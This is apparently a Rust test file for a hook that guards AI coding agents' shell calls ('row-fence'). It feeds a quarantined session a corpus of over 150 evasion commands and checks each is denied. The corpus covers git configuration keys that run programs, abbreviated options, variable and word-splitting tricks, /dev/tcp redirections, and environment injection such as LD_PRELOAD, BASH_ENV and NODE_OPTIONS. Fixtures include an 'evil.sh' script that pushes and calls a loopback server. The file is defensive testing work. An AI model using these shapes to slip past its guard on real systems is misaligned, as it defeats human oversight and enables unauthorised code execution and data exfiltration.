//! Round three, end to end: new shapes of the quarantine's kinds (configuration that runs
//! programs, abbreviated and bundled options, word splitting and variables, environment
//! and configuration files, two-call shapes whose first call was planted while the lane
//! held its row), each fed to the installed hook for a quarantined session (its row
//! refused) against a real bare remote and a loopback HTTP server. Every shape must be
//! denied; one that is let through is run for real, as the agent's shell would, so the
//! failure says whether it moved the remote, ran the planted program or reached the
//! server. After the whole corpus the remote's `main` is unmoved, the planted program
//! never ran and no request reached the server.
//!
//! `{evil}` is a script that records that it ran, hits the HTTP server and pushes;
//! `{push}` a push that moves the remote; `{url}` the server; `{port}` its port;
//! `{evilrepo}` a repository outside the lane whose configuration runs `{evil}`.

use crate::guard::{Lane, run_with_stdin};
use crate::util::run;
use serde_json::json;
use std::fs;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

/// A loopback HTTP server that counts the connections it accepts (each answered 401, so
/// a git client would ask its credential helper).
pub(crate) struct Counter {
    pub(crate) port: u16,
    hits: Arc<AtomicUsize>,
}

impl Counter {
    pub(crate) fn start() -> Counter {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let hits = Arc::new(AtomicUsize::new(0));
        let counted = hits.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                counted.fetch_add(1, Ordering::SeqCst);
                let _ = stream.set_read_timeout(Some(std::time::Duration::from_millis(200)));
                let mut buf = [0u8; 4096];
                let _ = stream.read(&mut buf);
                let _ = stream.write_all(
                    b"HTTP/1.0 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"x\"\r\nContent-Length: 0\r\n\r\n",
                );
            }
        });
        Counter { port, hits }
    }

    pub(crate) fn hits(&self) -> usize {
        self.hits.load(Ordering::SeqCst)
    }
}

/// A one-call shape (kind, command) or a two-call one (kind, planted for real while the
/// lane held its row, the call in quarantine, what undoes the plant).
enum Shape {
    One(&'static str, String),
    Two(&'static str, String, String, String),
}

/// Keys that make git run a program, with the read that runs it.
const RUNNING_KEYS: &[(&str, &str)] = &[
    ("core.fsmonitor", "status --short"),
    ("core.pager", "-p log -1"),
    ("pager.log", "-p log -1"),
    ("pager.status", "-p status"),
    ("diff.external", "diff HEAD~1"),
    ("diff.x.textconv", "log -p -1"),
    ("diff.x.command", "diff HEAD~1"),
    ("filter.x.clean", "status"),
    ("filter.x.process", "diff"),
    ("core.alternateRefsCommand", "log -1"),
    ("gpg.program", "log --show-signature -1"),
];

fn one_call_shapes() -> Vec<Shape> {
    let mut v = Vec::new();
    let mut one = |kind: &'static str, s: String| v.push(Shape::One(kind, s));
    // Configuration that runs programs, given in the call itself: five spellings per key.
    for (key, read) in RUNNING_KEYS {
        let k = "config that runs programs";
        one(k, format!("git -c {key}='{{evil}}' {read}"));
        one(k, format!("E='{{evil}}' git --config-env={key}=E {read}"));
        one(
            k,
            format!(
                "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0={key} GIT_CONFIG_VALUE_0='{{evil}}' git {read}"
            ),
        );
        one(
            k,
            format!("GIT_CONFIG_PARAMETERS=\"'{key}'='{{evil}}'\" git {read}"),
        );
        one(
            k,
            format!(
                "git -c include.path={{tmp}}/inc/{} {read}",
                key.replace('.', "-")
            ),
        );
    }
    // The examples the round-three report handed over, one per kind, as given (origin a
    // local path, the loopback server for the HTTP ones).
    for s in [
        "git config diff.external '{push}; :' list && git diff HEAD~1",
        "git rebase --exe '{push}' HEAD~1",
        "git rebase -qx '{push}' HEAD~1",
        "git fetch --upload-pac='{evil}' {remote}",
        "git grep --open-files='{evil}' work",
        "make --eva='$(shell {push})'",
        "tar --checkpoint-act=exec='{evil}' -cf /dev/null file.txt",
        "sed --expr='1e {evil}' file.txt",
        "gawk --sour='BEGIN{system(\"{push}\")}'",
        "curl --data-bin @file.txt {url}",
        "wget --post-d=x {url}",
        "gh api -iXPUT {url}",
        "c='user.name=t push -q --no-verify {remote} HEAD:main'; git -c $c",
        "printf -vx push; git $x -q --no-verify {remote} HEAD:main",
        "shopt -s lastpipe; true | x=push; git $x -q --no-verify {remote} HEAD:main",
        "PERL5OPT='-Mstrict;system(q({evil}))' perl -e 1",
        "NODE_OPTIONS='--require {tmp}/evil.js' node -e 1",
        "GH_BROWSER='{evil}' gh browse",
        "CURL_HOME={tmp} curl {url}",
        "WGETRC={tmp}/wgetrc wget -q -O /dev/null {url}",
        "perl -0 -e 'system(q({evil}))'",
    ] {
        one("the report's own examples", s.to_string());
    }
    // Abbreviated long options and bundled short ones that run a program or reach out.
    for s in [
        "git grep -O{evil} work",
        "git grep -nO{evil} work",
        "git grep --open-files-in-pager={evil} work",
        "git grep --open={evil} work",
        "git grep --open-f {evil} work",
        "git log --ext-diff -p -1",
        "git branch --edit-desc",
        "git branch --edit-description main",
        "git ls-remote {url}",
        "git ls-remote --upload-pack={evil} {remote}",
        "git ls-remote -u{evil} {remote}",
        "git ls-remote --upl={evil} {remote}",
        "git fetch --upload-p={evil} {remote}",
        "git archive --remote={remote} --exec={evil} HEAD",
        "git archive --rem={remote} --ex={evil} HEAD",
        "git log --output={tmp}/out -1",
        "git log --outp={tmp}/out -1",
        "git diff --output={tmp}/out HEAD~1",
        "git show --show-sig -1",
        "git difftool -x {evil} HEAD~1",
        "git difftool --ext={evil} -y HEAD~1",
        "git -p log -1",
        "git --pag log -1",
        "git status --porcelain --ignore-submodules=none --untracked-files=all --ignored --find-renames -uno; {push}",
        "sort --compress-program={evil} -S 1 file.txt",
        "sort --compress-p={evil} -S1 file.txt",
        "find . -name file.txt -exe {evil} ';'",
        "find . -name file.txt -execd {evil} ';'",
        "find . -name file.txt -ok {evil} ';'",
        "find . -fprint /dev/tcp/127.0.0.1/{port}",
        "tar -I {evil} -cf /dev/null file.txt",
        "tar --use-comp={evil} -cf /dev/null file.txt",
        "tar --checkpoint=1 --checkpoint-act=exec={evil} -cf /dev/null file.txt",
        "tar -cf /dev/null --to-com={evil} file.txt",
        "rg --pre={evil} work",
        "rg --pre {evil} -z work",
        "rg -zn --pre={evil} work",
        "man -P {evil} ls",
        "man --pager={evil} ls",
        "xargs -a file.txt {evil}",
        "env -S '{evil}'",
        "ls -la --hyperlink=always; {evil}",
        "curl -s {url}",
        "curl -sd x {url}",
        "curl -sXPUT {url}",
        "curl -sT file.txt {url}",
        "wget -qO- {url}",
        "wget --post-d=x -qO- {url}",
        "wget -q --spider {url}",
        "cat < /dev/tcp/127.0.0.1/{port}",
        "head -c1 </dev/tcp/127.0.0.1/{port}",
        "grep x 0</dev/tcp/127.0.0.1/{port}",
        "wc -c < /dev/tcp/127.0.0.1/{port}",
        "ls 3</dev/tcp/127.0.0.1/{port}",
        "ls 3<>/dev/tcp/127.0.0.1/{port}",
        "git status </dev/tcp/127.0.0.1/{port}",
        "ls > /dev/tcp/127.0.0.1/{port}",
        "ls >& /dev/tcp/127.0.0.1/{port}",
        "git status 2>/dev/tcp/127.0.0.1/{port}",
        "cat file.txt >> /dev/tcp/127.0.0.1/{port}",
        "cat <(curl -s {url})",
        "diff file.txt <({evil})",
        "ls >({evil})",
        // `row-fence status` with options that point it somewhere else.
        "row-fence status --store etcd://127.0.0.1:{port}",
        "row-fence status --store redis://127.0.0.1:{port}",
        "row-fence status --home {tmp}/newhome",
        "row-fence status --socket {tmp}/sock",
    ] {
        one(
            "abbreviated and bundled options, and where they reach",
            s.to_string(),
        );
    }
    // Word splitting and variables: the word git runs is decided at run time.
    for s in [
        "c=push; git $c -q --no-verify {remote} HEAD:main",
        "IFS=:; c=git:push:-q:--no-verify:{remote}:HEAD:main; $c",
        "set -- push -q --no-verify {remote} HEAD:main; git \"$@\"",
        "a=(push -q --no-verify {remote} HEAD:main); git \"${a[@]}\"",
        "printf -v s %s push; git $s -q --no-verify {remote} HEAD:main",
        "read -r s <<< push; git $s -q --no-verify {remote} HEAD:main",
        "mapfile -t a <<< push; git ${a[0]} -q --no-verify {remote} HEAD:main",
        "declare -n r=v; v=push; git $r -q --no-verify {remote} HEAD:main",
        "v=push; r=v; git ${!r} -q --no-verify {remote} HEAD:main",
        "git ${X:-push} -q --no-verify {remote} HEAD:main",
        "git ${X:=push} -q --no-verify {remote} HEAD:main",
        "X=1; git ${X:+push} -q --no-verify {remote} HEAD:main",
        "git $(echo push) -q --no-verify {remote} HEAD:main",
        "git `echo push` -q --no-verify {remote} HEAD:main",
        "git $'\\x70ush' -q --no-verify {remote} HEAD:main",
        "git \"pu\"sh -q --no-verify {remote} HEAD:main",
        "git pu\\sh -q --no-verify {remote} HEAD:main",
        "git p''ush -q --no-verify {remote} HEAD:main",
        "status=push; git $status -q --no-verify {remote} HEAD:main",
        "git ${PWD:0:0}push -q --no-verify {remote} HEAD:main",
        "x=$'status\\npush'; git ${x#*$'\\n'} -q --no-verify {remote} HEAD:main",
        "shopt -s lastpipe; echo push | read x; git $x -q --no-verify {remote} HEAD:main",
        "eval \"git push -q --no-verify {remote} HEAD:main\"",
        "git -c \"$(printf 'core.pager=%s' {evil})\" -p log -1",
        "E={evil}; git -c core.pager=$E -p log -1",
        "ls \"$({push})\"",
        "ls ${x:=$({push})}",
        "[[ -n $({push}) ]]",
        "test -n \"$({push})\"",
        "git status $({push})",
        "git log --format=\"$({push})\" -1",
        "a[$({push})]=1",
        "echo $(( $({push}) ))",
        "git log -1 --format=%H${IFS}--output={tmp}/out",
        "f() { git push -q --no-verify {remote} HEAD:main; }; f",
        "alias l='git push -q --no-verify {remote} HEAD:main'\nl",
        "shopt -s expand_aliases; alias l='git push -q --no-verify {remote} HEAD:main'\nl",
        "trap '{push}' EXIT; ls",
        "ls | while read -r f; do {push}; done",
        "coproc {push}; ls",
        // `test -v` evaluates an array subscript as arithmetic, running its `$(…)`.
        "test -v 'a[$({push})]'",
        "[ -v 'a[$({push})]' ]",
        "[ -R 'a[$({push})]' ]",
    ] {
        one("word splitting and variables", s.to_string());
    }
    // Environment and configuration files that run code or change the request.
    for s in [
        "GIT_EXTERNAL_DIFF={evil} git diff HEAD~1",
        "GIT_EXTERNAL_DIFF={evil} git log -p --ext-diff -1",
        "GIT_PAGER={evil} git -p log -1",
        "PAGER={evil} git -p log -1",
        "GIT_SSH_COMMAND={evil} git ls-remote ssh://x/y",
        "GIT_ASKPASS={evil} git ls-remote {url}",
        "GIT_EDITOR={evil} git branch --edit-description",
        "GIT_CONFIG_GLOBAL={tmp}/gcfg git status",
        "GIT_CONFIG_SYSTEM={tmp}/gcfg git log -1",
        "HOME={tmp}/h git status",
        "XDG_CONFIG_HOME={tmp}/x git status",
        "GIT_DIR={evilrepo}/.git GIT_WORK_TREE={evilrepo} git status",
        "git --git-dir={evilrepo}/.git --work-tree={evilrepo} status",
        "git -C {evilrepo} status",
        "cd {evilrepo} && git status",
        "cd {evilrepo}; git diff",
        "pushd {evilrepo} >/dev/null; git status",
        "GIT_EXEC_PATH={tmp}/fakeexec git status",
        "PATH={tmp}/fakebin:$PATH ls",
        "PATH={tmp}/fakebin ls",
        "export PATH={tmp}/fakebin:$PATH; ls",
        "BASH_ENV={evil} bash -c ls",
        "ENV={evil} sh -c ls",
        "PERL5OPT=-e'system(q({evil}))' perl -e1",
        "NODE_OPTIONS='--require {tmp}/x.js' node -e 0",
        "PYTHONPATH={tmp}/py python3 -c 1",
        "LD_PRELOAD={tmp}/x.so ls",
        "CURL_HOME={tmp}/c curl -s -o /dev/null http://127.0.0.1:1/",
        "WGETRC={tmp}/w wget -q http://127.0.0.1:1/",
        "BROWSER={evil} gh browse",
        "GH_PAGER={evil} gh pr list",
        "LESSOPEN='|{evil} %s' less file.txt",
        "MANPAGER={evil} man ls",
    ] {
        one("environment and configuration files", s.to_string());
    }
    v
}

/// Two-call shapes: the plant (run for real while the lane held its row), the call in
/// quarantine, and the undo.
fn two_call_shapes() -> Vec<Shape> {
    let mut v = Vec::new();
    let k = "two calls: planted, then read in quarantine";
    let mut two = |plant: String, call: &str, undo: String| {
        v.push(Shape::Two(k, plant, call.to_string(), undo));
    };
    for (key, read) in RUNNING_KEYS {
        two(
            format!("git config {key} '{{evil}}'"),
            &format!("git {read}"),
            format!("git config --unset-all {key}"),
        );
    }
    let signed = "git log --format=%G? -1 signed";
    for (plant, call, undo) in [
        (
            "git config gpg.program {evil}",
            signed,
            "git config --unset gpg.program",
        ),
        (
            "git config gpg.program {evil}",
            "git log --format=%GS -1 signed",
            "git config --unset gpg.program",
        ),
        (
            "git config gpg.program {evil}",
            "git show --show-signature signed",
            "git config --unset gpg.program",
        ),
        (
            "git config gpg.program {evil}",
            "git log --show-signature -1 signed",
            "git config --unset gpg.program",
        ),
        (
            "git config gpg.openpgp.program {evil}",
            signed,
            "git config --unset gpg.openpgp.program",
        ),
        (
            "git config include.path {tmp}/inc/core-fsmonitor",
            "git status",
            "git config --unset include.path",
        ),
        (
            "git config includeIf.gitdir:{clone}/.path {tmp}/inc/core-fsmonitor",
            "git status",
            "git config --unset includeIf.gitdir:{clone}/.path",
        ),
        (
            "git config includeIf.onbranch:main.path {tmp}/inc/core-fsmonitor",
            "git status",
            "git config --unset includeIf.onbranch:main.path",
        ),
        (
            "git config alias.st '!{evil}'",
            "git st",
            "git config --unset alias.st",
        ),
        (
            "git config core.hooksPath {tmp}/hooks",
            "git status",
            "git config --unset core.hooksPath",
        ),
        (
            "cp {evil} .git/hooks/post-index-change",
            "git status",
            "rm .git/hooks/post-index-change",
        ),
        (
            "git config extensions.worktreeConfig true && git config --worktree core.fsmonitor {evil}",
            "git status",
            "git config --worktree --unset core.fsmonitor; git config --unset extensions.worktreeConfig",
        ),
        (
            "git config --global core.fsmonitor {evil}",
            "git status",
            "git config --global --unset core.fsmonitor",
        ),
        (
            "mkdir -p ~/.config/git && printf '[core]\\n\\tpager = {evil}\\n' > ~/.config/git/config",
            "git -p log -1",
            "rm ~/.config/git/config",
        ),
        (
            "printf '* diff=x\\n' > .gitattributes && git config diff.x.textconv {evil}",
            "git log -p -1",
            "rm .gitattributes; git config --remove-section diff.x",
        ),
        (
            "printf '* diff=x\\n' > .git/info/attributes && git config diff.x.command {evil}",
            "git diff HEAD~1",
            "rm .git/info/attributes; git config --remove-section diff.x",
        ),
        (
            "printf '* filter=x\\n' > {tmp}/attrs && git config core.attributesFile {tmp}/attrs && git config filter.x.clean {evil}",
            "git status",
            "git config --unset core.attributesFile; git config --remove-section filter.x",
        ),
        (
            "printf 'gitdir: {evilrepo}/.git\\n' > sub/.git",
            "git -C sub status",
            "rm sub/.git",
        ),
        (
            "printf 'gitdir: {evilrepo}/.git\\n' > sub/.git",
            "cd sub && git log -1",
            "rm sub/.git",
        ),
        // A gitlink in the index with no `.gitmodules`: `git status` and `git diff` run
        // `git status` in the nested repository, with its own fsmonitor.
        (
            "git init -q sub/n && git -C sub/n commit -q --allow-empty -m n && git add sub/n && git -C sub/n config core.fsmonitor {evil}",
            "git status",
            "rm -rf sub/n; git rm -q --cached sub/n",
        ),
        (
            "git init -q sub/n && git -C sub/n commit -q --allow-empty -m n && git add sub/n && git -C sub/n config core.fsmonitor {evil}",
            "git diff",
            "rm -rf sub/n; git rm -q --cached sub/n",
        ),
        (
            "git config remote.origin.uploadpack {evil}",
            "git ls-remote origin",
            "git config --unset remote.origin.uploadpack",
        ),
        (
            "git config credential.helper '!{evil}'",
            "git ls-remote {url}",
            "git config --unset credential.helper",
        ),
        (
            "git config core.sshCommand {evil}",
            "git ls-remote ssh://x/y",
            "git config --unset core.sshCommand",
        ),
        (
            "git config protocol.ext.allow always",
            "git ls-remote 'ext::{evil}'",
            "git config --unset protocol.ext.allow",
        ),
        (
            "git config url.{url}.insteadOf lost:",
            "git ls-remote lost:r",
            "git config --remove-section url.{url}",
        ),
        (
            "printf '[submodule \"s\"]\\n\\tpath = s\\n\\turl = {remote}\\n' > .gitmodules && git config submodule.s.update '!{evil}'",
            "git status",
            "rm .gitmodules; git config --remove-section submodule.s",
        ),
        (
            "printf 'url = {url}\\n' > ~/.curlrc",
            "curl -s -o /dev/null",
            "rm ~/.curlrc",
        ),
        (
            "printf 'all:\\n\\t{push}\\n' > Makefile",
            "make",
            "rm Makefile",
        ),
        (
            "printf '{{\"scripts\":{{\"test\":\"{push}\"}}}}' > package.json",
            "npm test",
            "rm package.json",
        ),
    ] {
        two(plant.to_string(), call, undo.to_string());
    }
    v
}

/// Writes the fixtures the shapes name: `{evil}`, the include files, the planted global
/// configurations, the fake programs, the repository whose configuration runs `{evil}`,
/// and a commit carrying a (fake) signature, so git verifying it runs `gpg.program`.
fn fixtures(lane: &Lane, fill: &dyn Fn(&str) -> String) {
    let tmp = lane.tmp();
    let script = |path: &Path, body: &str| {
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, fill(body)).unwrap();
        fs::set_permissions(path, fs::Permissions::from_mode(0o755)).unwrap();
    };
    script(
        &tmp.join("evil.sh"),
        // Its own PATH: the fake programs in `{tmp}/fakebin` run it, and must not again.
        "#!/bin/sh\nPATH=/usr/local/bin:/usr/bin:/bin\ntouch {tmp}/proof\n(exec 3<>/dev/tcp/127.0.0.1/{port}) 2>/dev/null\ncd {clone} && {push}\ncat\n",
    );
    for (key, _) in RUNNING_KEYS {
        let (section, var) = key.rsplit_once('.').unwrap();
        let (section, sub) = match section.split_once('.') {
            Some((s, sub)) => (s, format!(" \"{sub}\"")),
            None => (section, String::new()),
        };
        let body = format!("[{section}{sub}]\n\t{var} = {{evil}}\n");
        fs::create_dir_all(tmp.join("inc")).unwrap();
        fs::write(tmp.join("inc").join(key.replace('.', "-")), fill(&body)).unwrap();
    }
    let cfg = fill("[core]\n\tfsmonitor = {evil}\n");
    fs::write(tmp.join("gcfg"), &cfg).unwrap();
    fs::create_dir_all(tmp.join("h")).unwrap();
    fs::write(tmp.join("h/.gitconfig"), &cfg).unwrap();
    fs::create_dir_all(tmp.join("x/git")).unwrap();
    fs::write(tmp.join("x/git/config"), &cfg).unwrap();
    for program in ["ls", "git", "git-status"] {
        script(
            &tmp.join("fakebin").join(program),
            "#!/bin/sh\nexec {evil}\n",
        );
        script(
            &tmp.join("fakeexec").join(program),
            "#!/bin/sh\nexec {evil}\n",
        );
    }
    script(
        &tmp.join("hooks/post-index-change"),
        "#!/bin/sh\nexec {evil}\n",
    );
    fs::write(
        tmp.join("x.js"),
        fill("require('child_process').execSync('{evil}')\n"),
    )
    .unwrap();
    fs::create_dir_all(tmp.join("py")).unwrap();
    fs::write(
        tmp.join("py/sitecustomize.py"),
        fill("import os\nos.system('{evil}')\n"),
    )
    .unwrap();
    fs::create_dir_all(tmp.join("c")).unwrap();
    fs::write(tmp.join("c/.curlrc"), fill("url = {url}\n")).unwrap();
    fs::write(
        tmp.join("w"),
        fill("post_data = x\nhttp_proxy = {url}\nuse_proxy = on\n"),
    )
    .unwrap();
    let evilrepo = tmp.join("evilrepo");
    let sh = |cmd: &str, dir: &Path| {
        let ran = run(lane
            .home
            .command("sh")
            .arg("-c")
            .arg(fill(cmd))
            .current_dir(dir));
        assert_eq!(ran.code, 0, "{cmd}: {}", ran.stderr);
    };
    fs::create_dir_all(&evilrepo).unwrap();
    sh(
        "git init -q && echo x > f && git add f && git commit -qm x && echo y > f && git config core.fsmonitor {evil} && git config diff.external {evil}",
        &evilrepo,
    );
    // A commit with a gpgsig header: git hands it to gpg.program to verify.
    sh(
        "c=$(git cat-file commit HEAD | awk 'NR==1{print; next} /^committer /{print; print \"gpgsig -----BEGIN PGP SIGNATURE-----\"; print \" x\"; print \" -----END PGP SIGNATURE-----\"; next} {print}' | git hash-object -t commit -w --stdin) && git update-ref refs/heads/signed $c",
        &lane.repo.clone,
    );
    fs::write(lane.repo.clone.join("work.txt"), "work\n").unwrap();
}

fn hook(lane: &Lane, session: &str, command: &str) -> crate::util::Ran {
    let cwd = &lane.repo.clone;
    let input = json!({
        "session_id": session,
        "transcript_path": "/nonexistent/t.jsonl",
        "cwd": cwd,
        "permission_mode": "default",
        "hook_event_name": "PreToolUse",
        "tool_name": "Bash",
        "tool_input": {"command": command},
    });
    let mut cmd = lane.home.command("sh");
    cmd.arg("-c").arg(&lane.hook).current_dir(cwd);
    run_with_stdin(&mut cmd, &input.to_string())
}

/// The placeholders of a lane's shapes, filled in.
fn filler(lane: &Lane, server: &Counter) -> impl Fn(&str) -> String {
    let clone = lane.repo.clone.display().to_string();
    let remote = lane.repo.remote.display().to_string();
    let tmp = lane.tmp().display().to_string();
    let push = format!("git push -q --no-verify {remote} HEAD:main");
    let url = format!("http://127.0.0.1:{}/r", server.port);
    let port = server.port.to_string();
    move |s: &str| {
        s.replace("{push}", &push)
            .replace("{evilrepo}", &format!("{tmp}/evilrepo"))
            .replace("{evil}", &format!("{tmp}/evil.sh"))
            .replace("{remote}", &remote)
            .replace("{clone}", &clone)
            .replace("{tmp}", &tmp)
            .replace("{url}", &url)
            .replace("{port}", &port)
    }
}

#[test]
fn new_shapes_of_every_kind_are_denied_in_quarantine_and_nothing_moves() {
    let lane = Lane::refused();
    let server = Counter::start();
    let fill = filler(&lane, &server);
    fixtures(&lane, &fill);
    let before = lane.remote_head();
    let proof = lane.tmp().join("proof");
    assert_eq!(server.hits(), 0);

    let session = "s-round-three";
    let first = hook(&lane, session, "ls");
    assert!(first.stderr.contains("QUARANTINED"), "{}", first.stderr);

    let shapes: Vec<Shape> = one_call_shapes()
        .into_iter()
        .chain(two_call_shapes())
        .collect();
    let mut per_kind = std::collections::BTreeMap::<&str, usize>::new();
    let mut through = Vec::new();
    for shape in &shapes {
        let (kind, plant, call, undo) = match shape {
            Shape::One(kind, call) => (*kind, None, call, None),
            Shape::Two(kind, plant, call, undo) => (*kind, Some(plant), call, Some(undo)),
        };
        *per_kind.entry(kind).or_default() += 1;
        if let Some(plant) = plant {
            let ran = lane.run_for_real(&fill(plant), &lane.repo.clone);
            assert_eq!(ran.code, 0, "plant {plant}: {}", ran.stderr);
        }
        let command = fill(call);
        let ran = hook(&lane, session, &command);
        if ran.code != 2 {
            // Let through: run it as the agent's shell would, to say what it did.
            let real = run(lane
                .home
                .command("bash")
                .arg("-c")
                .arg(&command)
                .env("ROW_FENCE_BIN_DIR", crate::util::bin_dir())
                .current_dir(&lane.repo.clone));
            through.push(format!(
                "{kind}: {command:?} exit {} (moved: {}, ran: {}, hits: {}; {})",
                ran.code,
                lane.remote_head() != before,
                proof.exists(),
                server.hits(),
                real.stderr.lines().next().unwrap_or("")
            ));
        } else {
            assert!(
                ran.stderr.contains("QUARANTINED"),
                "{command}: {}",
                ran.stderr
            );
        }
        if let Some(undo) = undo {
            let _ = lane.run_for_real(&fill(undo), &lane.repo.clone);
        }
    }
    assert!(through.is_empty(), "let through:\n{}", through.join("\n"));
    assert_eq!(lane.remote_head(), before, "the remote's main is unmoved");
    assert!(!proof.exists(), "no planted program ran");
    assert_eq!(server.hits(), 0, "no request reached the server");
    assert!(shapes.len() >= 150, "{} shapes: {per_kind:?}", shapes.len());
    eprintln!("{} shapes: {per_kind:?}", shapes.len());
}

/// The corpus tests something: a shape of each kind, run for real without the guard (in
/// bash, bounded by `timeout`), moves the remote, runs the planted program or reaches the
/// server.
#[test]
fn a_shape_of_each_kind_really_writes_without_the_guard() {
    let lane = Lane::refused();
    let server = Counter::start();
    let fill = filler(&lane, &server);
    fixtures(&lane, &fill);
    let proof = lane.tmp().join("proof");
    for shape in [
        "c=push; git $c -q --no-verify {remote} HEAD:main",
        "eval \"git push -q --no-verify {remote} HEAD:main\"",
        "git ${X:-push} -q --no-verify {remote} HEAD:main",
        "shopt -s expand_aliases; alias l='git push -q --no-verify {remote} HEAD:main'\nl",
        "cat < /dev/tcp/127.0.0.1/{port}",
        "ls 3<>/dev/tcp/127.0.0.1/{port}",
        "git -c core.fsmonitor='{evil}' status --short",
        "GIT_CONFIG_PARAMETERS=\"'core.fsmonitor'='{evil}'\" git status",
        "HOME={tmp}/h git status",
        "git -C {evilrepo} status",
        "PATH={tmp}/fakebin:$PATH ls",
        "tar --checkpoint=1 --checkpoint-act=exec={evil} -cf /dev/null file.txt",
        "BASH_ENV={evil} bash -c ls",
        "test -v 'a[$({push})]'",
    ] {
        lane.reset_remote();
        let _ = fs::remove_file(&proof);
        let hits = server.hits();
        let command = fill(shape);
        let ran = run(lane
            .home
            .command("timeout")
            .args(["20", "bash", "-c"])
            .arg(&command)
            .current_dir(&lane.repo.clone));
        let moved = lane.remote_head() == lane.repo.local_head(&lane.home);
        // The server counts a connection on its own thread, which a loaded machine may
        // not have run yet when the shell is done: wait for it a bounded while.
        let reached = || {
            let until = std::time::Instant::now() + std::time::Duration::from_secs(5);
            while std::time::Instant::now() < until {
                if server.hits() > hits {
                    return true;
                }
                std::thread::sleep(std::time::Duration::from_millis(20));
            }
            false
        };
        assert!(
            moved || proof.exists() || reached(),
            "{command:?} did nothing without the guard: the case tests nothing ({})",
            ran.stderr
        );
    }
}

/// Codex and Gemini CLI run a shell call in a directory of its own (Codex's `tool_cwd`
/// from 0.169.0 on, Gemini CLI's `dir_path`): the call is judged there, not in the
/// session's cwd. A Codex that sends no `tool_cwd` (before 0.169.0) leaves the directory
/// unknown: a row-bound session's fenced writes and opaque commands are denied; an
/// unbound session's fenced writes too (that directory may be a refused lane's clone),
/// its opaque commands and everything else run. Each input is the harness's own shape.
#[test]
fn a_shell_call_is_judged_where_the_harness_runs_it_or_as_unknown() {
    let lane = Lane::held();
    let server = Counter::start();
    let fill = filler(&lane, &server);
    fixtures(&lane, &fill);
    let evilrepo = lane.tmp().join("evilrepo");
    let codex_hook = lane
        .hook
        .replacen("row-fence-guard;", "row-fence-guard --harness codex;", 1);
    assert_ne!(
        codex_hook, lane.hook,
        "the hook names the guard: {}",
        lane.hook
    );
    let codex = |session: &str, cwd: &Path, command: &str, tool_cwd: Option<&Path>| {
        let mut input = json!({"session_id": session, "turn_id": "t-1", "cwd": cwd,
            "hook_event_name": "PreToolUse", "model": "gpt-5-codex", "permission_mode": "default",
            "transcript_path": null, "tool_name": "Bash", "tool_use_id": "call-1",
            "tool_input": {"command": command}});
        if let Some(dir) = tool_cwd {
            input["tool_cwd"] = json!(dir);
        }
        let mut cmd = lane.home.command("sh");
        cmd.arg("-c").arg(&codex_hook).current_dir(cwd);
        run_with_stdin(&mut cmd, &input.to_string())
    };
    let clone = lane.repo.clone.clone();
    let tmp = lane.tmp();
    let push = fill("git push -q --no-verify {remote} HEAD:main");
    // An unbound session (its cwd outside any lane) whose tool runs in the lane's clone:
    // judged there. With the lane refused, the push is refused.
    lane.lose();
    let there = codex("s-free", &tmp, &push, Some(&clone));
    assert_eq!(there.code, 2, "{}", there.stderr);
    assert!(
        there.stderr.contains("REFUSED (different_holder)"),
        "{}",
        there.stderr
    );
    // Without tool_cwd the directory is unknown: the same push is denied as such.
    let unknown = codex("s-free", &tmp, &push, None);
    assert_eq!(unknown.code, 2, "{}", unknown.stderr);
    assert!(unknown.stderr.contains("tool_cwd"), "{}", unknown.stderr);
    // An unbound session's everyday commands and opaque code still run.
    for command in [
        "ls",
        "python3 -c 'print(1)'",
        "cd \"$(mktemp -d)\" && node -e 1",
    ] {
        let ran = codex("s-free", &tmp, command, None);
        assert_eq!(ran.code, 0, "{command}: {}", ran.stderr);
    }
    // A row-bound session holding its row: the opaque command in an unknown directory is
    // denied when the whole call's directory is unknown.
    lane.regain();
    let bound = codex("s-bound", &clone, "python3 -c 'print(1)'", None);
    assert_eq!(bound.code, 2, "{}", bound.stderr);
    assert!(bound.stderr.contains("tool_cwd"), "{}", bound.stderr);
    let known = codex("s-bound", &clone, "python3 -c 'print(1)'", Some(&clone));
    assert_eq!(known.code, 0, "{}", known.stderr);
    // Refused, in quarantine: no shell call, wherever it runs.
    lane.lose();
    let evil = codex("s-bound", &clone, "git status", Some(&evilrepo));
    assert_eq!(evil.code, 2, "{}", evil.stderr);
    // Gemini CLI's shell tool names its directory `dir_path` (or `directory`).
    let gemini = lane
        .hook
        .replacen("row-fence-guard;", "row-fence-guard --harness gemini;", 1);
    for member in ["dir_path", "directory"] {
        let input = json!({"session_id": "s-gemini-free", "cwd": tmp,
            "hook_event_name": "BeforeTool", "timestamp": "2026-01-01T00:00:00Z",
            "tool_name": "run_shell_command",
            "tool_input": {"command": push, "description": "x", member: clone}});
        let mut cmd = lane.home.command("sh");
        cmd.arg("-c").arg(&gemini).current_dir(&tmp);
        let ran = run_with_stdin(&mut cmd, &input.to_string());
        assert_eq!(ran.code, 2, "gemini {member}: {}", ran.stderr);
        assert!(
            ran.stderr.contains("REFUSED"),
            "gemini {member}: {}",
            ran.stderr
        );
    }
    assert!(!lane.tmp().join("proof").exists(), "no planted program ran");
}
